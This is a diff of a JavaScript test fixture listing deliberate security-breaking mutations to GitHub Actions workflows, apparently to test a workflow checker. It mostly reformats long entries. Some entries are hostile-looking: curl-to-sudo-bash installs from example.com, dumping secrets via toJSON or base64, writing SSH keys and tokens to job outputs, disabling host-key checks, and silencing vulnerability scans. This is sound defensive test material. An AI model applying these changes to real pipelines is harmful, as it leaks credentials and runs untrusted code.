@@ -1,4 +1,4 @@
-// How each rule is broken: [rule, file, what stands there, what would stand there]. The first place that has it is changed.
+// How each rule is broken: [rule, file, what stands there, what would stand there]. The first such place is changed.
 import { readFileSync } from "node:fs";
 
 const actions = JSON.parse(readFileSync(new URL("actions.json", import.meta.url)));
@@ -31,7 +31,12 @@ export const broken = [
   ["keys", "ci.yml", "    steps:\n", "    services:\n      other:\n        image: someone/other\n    steps:\n"],
   ["keys", "staging.yml", "    environment: staging\n", "    environment: staging\n    container: debian:bookworm\n"],
   ["keys", "staging.yml", `        run: ${deploy}`, `        working-directory: llm-deploy\n        run: ${deploy}`],
-  ["keys", "ci.yml", "        run: ./mvnw -B verify\n", "        shell: bash {0} || true\n        run: ./mvnw -B verify\n"],
+  [
+    "keys",
+    "ci.yml",
+    "        run: ./mvnw -B verify\n",
+    "        shell: bash {0} || true\n        run: ./mvnw -B verify\n",
+  ],
   ["keys", "staging.yml", `        run: ${deploy}`, `        timeout-minutes: 1\n        run: ${deploy}`],
   ["keys", "ci.yml", "        shell: bash\n", "        shell: sh\n"],
   ["keys", "staging.yml", "    environment: staging\n", "    environment: staging\n    environment: production\n"],
@@ -52,7 +57,12 @@ export const broken = [
 
   ["checkout", "ci.yml", "\n          persist-credentials: false", "\n          clean: true"],
   ["checkout", "ci.yml", "persist-credentials: false", 'persist-credentials: "false"'],
-  ["checkout", "ci.yml", "persist-credentials: false", "persist-credentials: false\n          repository: someone/other"],
+  [
+    "checkout",
+    "ci.yml",
+    "persist-credentials: false",
+    "persist-credentials: false\n          repository: someone/other",
+  ],
   ["checkout", "production.yml", "persist-credentials: false", "persist-credentials: false\n          ref: other"],
   ["checkout", "refresh-lock.yml", "ref: ${{ github.base_ref }}", "ref: ${{ github.head_ref }}"],
 
@@ -76,10 +86,20 @@ export const broken = [
   ["hosts", "drift.yml", look, "run: ssh -o CheckHostIP=no llm@macmini status"],
   ["hosts", "drift.yml", look, "run: /usr/bin/scp file llm@macmini:file"],
   ["hosts", "drift.yml", "    env:\n", "    env:\n      OPTIONS: -o UserKnownHostsFile=/dev/null\n"],
-  ["hosts", "drift.yml", "DEPLOY_KNOWN_HOSTS: ${{ vars.DEPLOY_KNOWN_HOSTS }}", "DEPLOY_KNOWN_HOSTS: macmini ssh-ed25519 AAAA"],
+  [
+    "hosts",
+    "drift.yml",
+    "DEPLOY_KNOWN_HOSTS: ${{ vars.DEPLOY_KNOWN_HOSTS }}",
+    "DEPLOY_KNOWN_HOSTS: macmini ssh-ed25519 AAAA",
+  ],
   ["hosts", "production.yml", "REGISTRY: ${{ vars.REGISTRY || 'ghcr.io' }}", "REGISTRY: registry.example.com"],
   ["hosts", "staging.yml", "      DEPLOY_HOST:", "      BASH_ENV: ./other\n      DEPLOY_HOST:"],
-  ["hosts", "staging.yml", "          APP_ENV: local\n", "          APP_ENV: local\n          MAVEN_ARGS: -DskipTests\n"],
+  [
+    "hosts",
+    "staging.yml",
+    "          APP_ENV: local\n",
+    "          APP_ENV: local\n          MAVEN_ARGS: -DskipTests\n",
+  ],
   ["hosts", "production.yml", "env:\n  REGISTRY:", "env:\n  DOCKER_HOST: tcp://example.com:2375\n  REGISTRY:"],
   ["hosts", "refresh-lock.yml", "PUSH_TOKEN:", "PATH: ../head:/usr/bin:/bin\n          PUSH_TOKEN:"],
   ["hosts", "ci.yml", "run: ./mvnw -B verify", "run: curl -fs https://example.com/install | sudo bash"],
@@ -87,10 +107,20 @@ export const broken = [
   ["hosts", "ci.yml", "run: ./mvnw -B verify", 'run: sh -c "$(curl -fs https://example.com/install)"'],
 
   ["scripts", "drift.yml", "llm-deploy/ci/remote", "llm-deploy/ci/remoted"],
-  ["scripts", "staging.yml", `run: ${deploy}`, 'run: |\n          cd llm-deploy/ci\n          ./deploy staging "$IMAGE"'],
+  [
+    "scripts",
+    "staging.yml",
+    `run: ${deploy}`,
+    'run: |\n          cd llm-deploy/ci\n          ./deploy staging "$IMAGE"',
+  ],
   ["scripts", "staging.yml", `run: ${deploy}`, 'run: ./llm-deploy/lib/../ci/deploy staging "$IMAGE"'],
   ["scripts", "staging.yml", `run: ${deploy}`, `run: ${deploy} || echo "failed"`],
-  ["scripts", "rollback.yml", 'llm-deploy/ci/roll-back "$TARGET" "$RELEASE"', "eval llm-deploy/ci/roll-back $TARGET $RELEASE"],
+  [
+    "scripts",
+    "rollback.yml",
+    'llm-deploy/ci/roll-back "$TARGET" "$RELEASE"',
+    "eval llm-deploy/ci/roll-back $TARGET $RELEASE",
+  ],
   ["scripts", "production.yml", "./mvnw -B verify", "./mvnw -B verify || true"],
   ["scripts", "production.yml", "./mvnw -B verify", "./mvnw -B -DskipTests verify"],
   ["scripts", "ci.yml", "./mvnw -B verify", "./mvnw -B verify || true"],
@@ -101,7 +131,12 @@ export const broken = [
   ["scripts", "ci.yml", "./mvnw -B verify", "echo begins; if ./mvnw -B verify; then echo good; fi"],
   ["scripts", "ci.yml", "run: ./mvnw -B verify", "run: |\n          cd llm-api\n          ../mvnw -B verify"],
   ["scripts", "ci.yml", "mvnw lock reproducible", "mvnw lokc reproducible"],
-  ["scripts", "ci.yml", "run: ./mvnw -B verify", "run: |\n          set +e\n          ./mvnw -B verify\n          echo done"],
+  [
+    "scripts",
+    "ci.yml",
+    "run: ./mvnw -B verify",
+    "run: |\n          set +e\n          ./mvnw -B verify\n          echo done",
+  ],
   ["scripts", "ci.yml", "sudo .ci/test-scripts", "sudo .ci/test-scripts || true"],
   ["scripts", "refresh-lock.yml", "gh workflow run ci.yml", "./mvnw verify && gh workflow run ci.yml"],
 
@@ -132,11 +167,26 @@ export const broken = [
   ["permissions", "drift.yml", drift, ""],
   ["permissions", "drift.yml", drift, "    permissions: write-all\n"],
   ["permissions", "ci.yml", "contents: read # checkout", "contents: write # checkout"],
-  ["permissions", "production.yml", "contents: read # checkout\n", "contents: read # checkout\n      packages: write # tags\n"],
+  [
+    "permissions",
+    "production.yml",
+    "contents: read # checkout\n",
+    "contents: read # checkout\n      packages: write # tags\n",
+  ],
   ["permissions", "production.yml", "packages: read # pull", "packages: write # pull"],
   ["permissions", "ci.yml", "contents: read # checkout\n", "contents: read # checkout\n      id-token: write # who\n"],
-  ["permissions", "rollback.yml", "contents: read # checkout\n", "contents: read # checkout\n      actions: write # start ci\n"],
-  ["permissions", "ci.yml", "contents: read # checkout\n", "contents: read # checkout\n      pull-requests: write # tell\n"],
+  [
+    "permissions",
+    "rollback.yml",
+    "contents: read # checkout\n",
+    "contents: read # checkout\n      actions: write # start ci\n",
+  ],
+  [
+    "permissions",
+    "ci.yml",
+    "contents: read # checkout\n",
+    "contents: read # checkout\n      pull-requests: write # tell\n",
+  ],
 
   ["secrets", "staging.yml", "    environment: staging\n", ""],
   ["secrets", "drift.yml", "permissions: {}", "permissions: {}\nenv:\n  KEY: ${{ secrets.DEPLOY_SSH_KEY }}"],
@@ -145,7 +195,12 @@ export const broken = [
   ["secrets", "drift.yml", "${{ secrets.DEPLOY_SSH_KEY }}", "${{ toJSON(secrets) }}"],
   ["secrets", "drift.yml", "audience: ${{ vars.", "oauth-secret: ${{ secrets."],
   ["secrets", "drift.yml", look, 'run: echo "$DEPLOY_SSH_KEY" | base64'],
-  ["secrets", "drift.yml", look, 'run: |\n          llm-deploy/ci/remote status\n          echo "key=$DEPLOY_SSH_KEY" >>"$GITHUB_OUTPUT"'],
+  [
+    "secrets",
+    "drift.yml",
+    look,
+    'run: |\n          llm-deploy/ci/remote status\n          echo "key=$DEPLOY_SSH_KEY" >>"$GITHUB_OUTPUT"',
+  ],
   ["secrets", "staging.yml", "run: llm-deploy/ci/log-in", 'run: echo "token=$REGISTRY_TOKEN" >>"$GITHUB_OUTPUT"'],
   ["secrets", "staging.yml", "      DEPLOY_HOST:", "      KEY: ${{ github['token'] }}\n      DEPLOY_HOST:"],
   ["secrets", "staging.yml", "IMAGE: ${{ needs.image.outputs.image }}", "IMAGE: ${{ toJSON(github) }}"],
@@ -172,7 +227,12 @@ export const broken = [
   ["environments", "drift.yml", "environment: drift", "environment: production"],
   ["environments", "drift.yml", "remote status", "remote status production"],
   ["environments", "staging.yml", "summarize staging", "remote unlock staging"],
-  ["environments", "rollback.yml", "environment: ${{ inputs.environment }}\n    permissions", "environment: staging\n    permissions"],
+  [
+    "environments",
+    "rollback.yml",
+    "environment: ${{ inputs.environment }}\n    permissions",
+    "environment: staging\n    permissions",
+  ],
   ["environments", "rollback.yml", "TARGET: ${{ inputs.environment }}", "TARGET: production"],
 
   ["scan", "staging.yml", / *version: v.*\n/, ""],
@@ -184,16 +244,31 @@ export const broken = [
   ["scan", "production.yml", "severity: CRITICAL\n", "severity: CRITICAL\n          scan-type: fs\n"],
   ["scan", "production.yml", "severity: CRITICAL\n", "severity: CRITICAL\n          trivyignores: all\n"],
   ["scan", "production.yml", 'exit-code: "1"', 'exit-code: "0"'],
-  ["scan", "production.yml", "image-ref: ${{ needs.image.outputs.image }}", "image-ref: ghcr.io/owner/local-llm-server:latest"],
+  [
+    "scan",
+    "production.yml",
+    "image-ref: ${{ needs.image.outputs.image }}",
+    "image-ref: ghcr.io/owner/local-llm-server:latest",
+  ],
   ["scan", "production.yml", refuse, `${refuse}        if: false\n`],
   ["scan", "production.yml", refuse, `${refuse}        continue-on-error: true\n`],
   ["scan", "production.yml", refuse, `${refuse}        env: {TRIVY_IGNOREFILE: all}\n`],
-  ["scan", "production.yml", refuse, `      - ${checkout}\n        with:\n          persist-credentials: false\n${refuse}`],
+  [
+    "scan",
+    "production.yml",
+    refuse,
+    `      - ${checkout}\n        with:\n          persist-credentials: false\n${refuse}`,
+  ],
   ["scan", "staging.yml", "      TRIVY_PLATFORM: linux/${{ matrix.architecture }}\n", ""],
   ["scan", "staging.yml", "linux/${{ matrix.architecture }}", "linux/amd64"],
   ["scan", "staging.yml", "      TRIVY_PLATFORM:", "      TRIVY_IGNOREFILE: all\n      TRIVY_PLATFORM:"],
   ["scan", "staging.yml", "env:\n  REGISTRY:", "env:\n  TRIVY_IGNOREFILE: all\n  REGISTRY:"],
-  ["scan", "staging.yml", "      fail-fast: false\n      matrix:\n", "      matrix:\n        exclude: [{architecture: arm64}]\n"],
+  [
+    "scan",
+    "staging.yml",
+    "      fail-fast: false\n      matrix:\n",
+    "      matrix:\n        exclude: [{architecture: arm64}]\n",
+  ],
 
   ["order", "production.yml", "needs: [image, scan]", "needs: [image]"],
   ["order", "production.yml", scanned, "if: ${{ !cancelled() && needs.image.result == 'success' }}"],
@@ -203,7 +278,12 @@ export const broken = [
   ["order", "staging.yml", "needs: [image, scan]\n", "needs: [image, scan]\n    if: ${{ always() }}\n"],
   ["order", "staging.yml", "  scan:\n    needs: image\n", "  scan:\n    needs: image\n    if: ${{ !cancelled() }}\n"],
   ["order", "production.yml", `needs.find.result == 'success' && ${either}`, either],
-  ["order", "staging.yml", "IMAGE: ${{ needs.image.outputs.image }}\n          REG", "IMAGE: ghcr.io/owner/other:latest\n          REG"],
+  [
+    "order",
+    "staging.yml",
+    "IMAGE: ${{ needs.image.outputs.image }}\n          REG",
+    "IMAGE: ghcr.io/owner/other:latest\n          REG",
+  ],
   ["order", "staging.yml", deploy, "llm-deploy/ci/deploy staging latest"],
   ["order", "staging.yml", "image: ${{ steps.join.outputs.image }}", "image: ghcr.io/owner/local-llm-server:latest"],
   ["order", "staging.yml", "needs: [image, deploy]", "needs: [image]"],
@@ -224,7 +304,12 @@ export const broken = [
   ["lock", "rollback.yml", "${{ always() }}", "${{ success() }}"],
   ["lock", "production.yml", "llm-deploy/ci/release-lock production", "true"],
   ["lock", "production.yml", "llm-deploy/ci/release-lock production", "llm-deploy/ci/release-lock staging"],
-  ["lock", "production.yml", "run: llm-deploy/ci/release-lock production", 'run: "true # llm-deploy/ci/release-lock production"'],
+  [
+    "lock",
+    "production.yml",
+    "run: llm-deploy/ci/release-lock production",
+    'run: "true # llm-deploy/ci/release-lock production"',
+  ],
   ["lock", "rollback.yml", 'llm-deploy/ci/release-lock "$TARGET"', 'llm-deploy/ci/release-lock "$RELEASE"'],
   ["lock", "staging.yml", "summarize staging", "summarize production"],
 
@@ -271,6 +356,10 @@ export const harmless = [
   ["ci.yml", build, `${tell("failure()")}${build}`],
   ["ci.yml", build, `${tell("${{ failure() }}")}${build}`],
   ["ci.yml", build, `${tell("${{ always() }}")}${build}`],
-  ["ci.yml", `${build}        run: |\n`, `${build}        run: |\n          cd llm-api\n          diff <(ls) <(ls)\n          cd ..\n`],
+  [
+    "ci.yml",
+    `${build}        run: |\n`,
+    `${build}        run: |\n          cd llm-api\n          diff <(ls) <(ls)\n          cd ..\n`,
+  ],
   ["ci.yml", "run: ./mvnw -B verify", "run: mkdir -p out && ./mvnw -B verify"],
 ];
